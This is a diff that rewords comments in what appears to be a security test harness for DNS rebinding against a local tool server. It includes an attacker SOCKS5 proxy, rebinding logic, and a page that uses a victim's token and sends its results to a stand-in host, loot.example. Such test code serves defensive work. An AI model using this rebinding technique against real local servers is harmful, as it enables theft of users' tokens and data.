@@ -2,13 +2,13 @@
 
 The browser loads a page from http://rebound.example:PORT. The attacker owns the name and the
 server behind it. As soon as the page is loaded, the name changes its address to that of the
-local server, on the same PORT: to the browser this is still the site that the page is from. So
-the page may call a tool and read the reply, and no CORS header is asked for.
+local server, on the same PORT. To the browser this is still the site that the page is from. So
+the page may call a tool and read the reply, and no CORS header is needed.
 
-A SOCKS proxy plays the attacker's name server: the browser leaves it to such a proxy to find
-the address of a name. Behind it, Chromium also doesn't see that the new address is a local one.
-Without a proxy, Chromium 156 lets no page from another address send requests to 127.0.0.1
-unless its user allows it. A server can't count on every browser to do that.
+A SOCKS proxy plays the attacker's name server: the browser lets such a proxy find the address
+of a name. Behind it, Chromium also doesn't see that the new address is a local one. Without a
+proxy, Chromium 156 lets no page from another address send requests to 127.0.0.1 unless its user
+allows it. A server can't count on every browser to do that.
 """
 
 import asyncio
@@ -29,7 +29,7 @@ BROWSERS = ("chromium", "chromium-browser", "google-chrome")
 INSTALL = "apt-get install --no-install-recommends chromium"
 START_SECONDS = 20.0  # for a browser on a busy machine
 
-# The page has even got Alice's token: only its name stands in the way.
+# The page even has Alice's token: only its name is in the way.
 PAGE = """<!doctype html>
 <script>
 const given = GIVEN;
@@ -107,15 +107,15 @@ class Attacker:
         self.proxy.close()
 
     def address_of(self, name: str) -> tuple[str | None, int | None]:
-        """The address of a name, now. Here is the rebinding."""
+        """The address of a name, now. This is the rebinding."""
         if not name.endswith(".example"):
-            raise ConnectionRefusedError  # the browser's own errands
+            raise ConnectionRefusedError  # the browser's own requests
         if name == "rebound.example" and self.page_is_loaded:
             return self.victim
         return self.site.sockets[0].getsockname()
 
     async def serve_site(self, reader: StreamReader, writer: StreamWriter) -> None:
-        """GET / is for the page. At loot.example arrives what it has got."""
+        """GET / returns the page. What the page has stolen arrives at loot.example."""
         with suppress(asyncio.IncompleteReadError, ConnectionError):
             head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
             body = b""
@@ -127,7 +127,7 @@ class Attacker:
                 loot = await reader.readexactly(length)
                 if not self.loot.done():
                     self.loot.set_result(loot.decode())
-            # Closed, so that for the next request the browser has to ask for the address.
+            # Closed, so that the browser has to ask for the address again at the next request.
             writer.write(
                 b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                 b"Attacker: yes\r\nConnection: close\r\n"
@@ -136,7 +136,7 @@ class Attacker:
         writer.close()
 
     async def serve_proxy(self, reader: StreamReader, writer: StreamWriter) -> None:
-        """SOCKS version 5 (RFC 1928), as much as a browser needs: connect to a name."""
+        """As much of SOCKS version 5 (RFC 1928) as a browser needs: connect to a name."""
         with suppress(asyncio.IncompleteReadError, OSError):
             _, methods = await reader.readexactly(2)
             await reader.readexactly(methods)
